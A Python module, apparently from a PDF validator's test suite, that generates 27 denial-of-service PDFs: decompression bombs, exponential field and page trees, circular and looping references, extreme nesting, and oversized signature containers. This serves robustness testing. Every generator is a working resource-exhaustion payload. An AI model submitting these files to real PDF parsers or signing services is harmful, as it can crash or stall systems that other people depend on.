"""Files made to exhaust who reads them: object graphs, references, page trees, encodings, signatures."""

import zlib
from collections.abc import Callable

from attacks.surgery import Variants, stream

EMPTY_PAGES = b"<</Type/Pages/Kids[]/Count 0>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[10 0 R]>>>>"


def pdf_of(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """Write a PDF of numbered objects; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n" % size
    for number in range(size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def inflating(megabytes: int) -> bytes:
    """Some kilobyte of Deflate for every megabyte of zeros."""
    compressor = zlib.compressobj(9)
    return b"".join(compressor.compress(bytes(2**20)) for _ in range(megabytes)) + compressor.flush()


def exponential_fields() -> bytes:
    """Forty levels of form fields, each with the next one ten times: 10**40 of them."""
    objects = {1: CATALOG, 2: EMPTY_PAGES}
    for level in range(10, 50):
        objects[level] = b"<</T(f)/Kids[%b]>>" % b" ".join([b"%d 0 R" % (level + 1)] * 10)
    objects[50] = b"<</T(leaf)/FT/Tx>>"
    return pdf_of(objects)


def exponential_pages() -> bytes:
    """Forty levels of page trees, each with the next one ten times."""
    objects = {1: b"<</Type/Catalog/Pages 10 0 R>>"}
    for level in range(10, 50):
        objects[level] = b"<</Type/Pages/Count 9/Kids[%b]>>" % b" ".join([b"%d 0 R" % (level + 1)] * 10)
    objects[50] = b"<</Type/Page/MediaBox[0 0 1 1]>>"
    return pdf_of(objects)


def long_array() -> bytes:
    """Three million fields that are nothing."""
    fields = b"null " * 3_000_000
    return pdf_of({1: b"<</Type/Catalog/AcroForm<</Fields[%b]>>>>" % fields})


def many_fields() -> bytes:
    """Thirty thousand filled signature fields."""
    objects = {
        2: EMPTY_PAGES,
        3: b"<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>/SubFilter/ETSI.CAdES.detached>>",
    }
    fields = range(10, 30_010)
    objects |= {number: b"<</FT/Sig/T(s%d)/V 3 0 R>>" % number for number in fields}
    listed = b" ".join(b"%d 0 R" % number for number in fields)
    return pdf_of({1: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[%b]>>>>" % listed, **objects})


def _attachment(entries: bytes, data: bytes) -> bytes:
    """A PDF whose attached permit.json is the stream."""
    return pdf_of(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/Names <</EmbeddedFiles<</Names[(permit.json) 4 0 R]>>>>>>",
            2: EMPTY_PAGES,
            4: b"<</EF<</F 5 0 R>>>>",
            5: stream(data, entries),
        }
    )


def inflating_attachment() -> bytes:
    """Four hundred kilobytes that become as many megabytes once the attached data are read."""
    return _attachment(b"/Filter/FlateDecode", inflating(400))


def inflating_twice() -> bytes:
    """A stream deflated twice: a kilobyte for every gigabyte."""
    return _attachment(b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(inflating(2000), 9))


def many_filters() -> bytes:
    """Two thousand filters, one after the other."""
    return _attachment(b"/Filter[%b]" % (b"/ASCIIHexDecode" * 2000), b"30" * 100_000 + b">")


def huge_predictor() -> bytes:
    """Rows of two thousand million columns."""
    parameters = b"/DecodeParms<</Predictor 15/Columns 2000000000/Colors 32/BitsPerComponent 16>>"
    return _attachment(b"/Filter/FlateDecode" + parameters, zlib.compress(bytes(1000)))


def run_lengths() -> bytes:
    """Runs of one byte: each pair of bytes becomes a hundred and twenty-eight."""
    return _attachment(b"/Filter/RunLengthDecode", b"\x81\x00" * 5_000_000 + b"\x80")


def inflating_references() -> bytes:
    """A cross-reference stream that becomes four hundred megabytes."""
    out = b"%PDF-1.7\n"
    body = stream(inflating(400), b"/Type/XRef/Size 400000000/W[1 4 1]/Root 1 0 R/Filter/FlateDecode")
    return out + b"3 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (body, len(out))


def wide_references() -> bytes:
    """A cross-reference stream of entries a gigabyte wide."""
    out = b"%PDF-1.7\n"
    body = stream(bytes(100), b"/Type/XRef/Size 9/W[1 1000000000 1]/Root 1 0 R")
    return out + b"3 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (body, len(out))


def many_references() -> bytes:
    """A table that promises nine thousand million entries."""
    return (
        b"%PDF-1.7\nxref\n0 9999999999\n0000000000 65535 f \ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
    )


def looping_references() -> bytes:
    """A cross-reference table that names itself as the one before."""
    plain = pdf_of({1: b"<</Type/Catalog>>"})
    return pdf_of({1: b"<</Type/Catalog>>"}, b"/Prev %d" % plain.index(b"xref\n"))


def many_revisions() -> bytes:
    """Four thousand updates of nothing."""
    out = bytearray(pdf_of({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: EMPTY_PAGES}))
    for _ in range(4000):
        before, start = int(out[out.rindex(b"startxref") + 9 :].split()[0]), len(out)
        out += b"xref\n0 0\ntrailer\n<</Size 3/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
            before,
            start,
        )
    return bytes(out)


def compressed_objects() -> bytes:
    """An object stream that promises a thousand million objects."""
    return pdf_of(
        {
            1: b"<</Type/Catalog/Pages 3 0 R>>",
            2: stream(b"3 0 " * 1000, b"/Type/ObjStm/N 1000000000/First 4000"),
        }
    )


def deep_array() -> bytes:
    """Arrays in arrays, deeper than any stack."""
    return pdf_of({1: b"<</Type/Catalog/AcroForm%b%b>>" % (b"[" * 200_000, b"]" * 200_000)})


def deep_dictionary() -> bytes:
    """Dictionaries in dictionaries."""
    return pdf_of({1: b"<</Type/Catalog/AcroForm%b 1 %b>>" % (b"<</A" * 100_000, b">>" * 100_000)})


def long_string() -> bytes:
    """A string of fifteen megabytes of escapes."""
    return pdf_of({1: b"<</Type/Catalog/AcroForm(%b)>>" % (b"\\051" * 4_000_000)})


def open_string() -> bytes:
    """Five million brackets that are never closed."""
    return pdf_of({1: b"<</Type/Catalog/AcroForm(%b" % (b"(" * 5_000_000)})


def circular_reference() -> bytes:
    """Objects that are each other."""
    return pdf_of({1: b"2 0 R", 2: b"3 0 R", 3: b"1 0 R"})


def circular_length() -> bytes:
    """A stream whose length is the stream."""
    return pdf_of({1: b"<</Type/Catalog/Metadata 2 0 R>>", 2: b"<</Length 2 0 R>>\nstream\nx\nendstream"})


def circular_fields() -> bytes:
    """A field that is its own child and parent."""
    return pdf_of({1: CATALOG, 2: EMPTY_PAGES, 10: b"<</T(f)/Parent 10 0 R/Kids[10 0 R 10 0 R]>>"})


def circular_pages() -> bytes:
    """A page tree that is its own child."""
    return pdf_of({1: CATALOG, 2: b"<</Type/Pages/Count 1/Kids[2 0 R 2 0 R]>>", 10: b"<</T(f)/FT/Sig>>"})


def _signed_with(container: bytes) -> bytes:
    """A PDF with one filled signature field that holds these bytes."""
    digits = container.hex().encode()
    signature = b"<</Type/Sig/SubFilter/ETSI.CAdES.detached/Contents<%b>/ByteRange[0 1000 1001 %d]>>"
    return pdf_of(
        {
            1: CATALOG,
            2: EMPTY_PAGES,
            3: signature % (digits, 10),
            10: b"<</FT/Sig/T(s)/V 3 0 R>>",
        }
    )


def deep_container() -> bytes:
    """A signature of a hundred thousand sequences in each other, of indefinite length."""
    return _signed_with(b"\x30\x80" * 100_000 + b"\0\0" * 100_000)


def long_container() -> bytes:
    """A signature that says it is four gigabytes long."""
    return _signed_with(b"\x30\x84\xff\xff\xff\xff" + bytes(1_000_000))


def many_ends() -> bytes:
    """A million marks of the end."""
    return pdf_of({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: EMPTY_PAGES}) + b"%%EOF\n" * 1_000_000


def many_containers() -> bytes:
    """What looks like two hundred thousand containers, to who searches the bytes."""
    return pdf_of({1: b"<</Type/Catalog/Pages 2 0 R>>"}) + (b"/Contents <30%b>" % (b"00" * 40)) * 150_000


BOMBS: tuple[Callable[[], bytes], ...] = (
    exponential_fields, exponential_pages, long_array, many_fields, inflating_attachment,
    inflating_twice, many_filters, huge_predictor, run_lengths, inflating_references,
    wide_references, many_references, looping_references, many_revisions, compressed_objects,
    deep_array, deep_dictionary, long_string, open_string, circular_reference, circular_length,
    circular_fields, circular_pages, deep_container, long_container, many_ends, many_containers,
)  # fmt: skip


def bombs() -> Variants:
    """Yield every bomb."""
    for bomb in BOMBS:
        yield bomb.__name__, bomb()
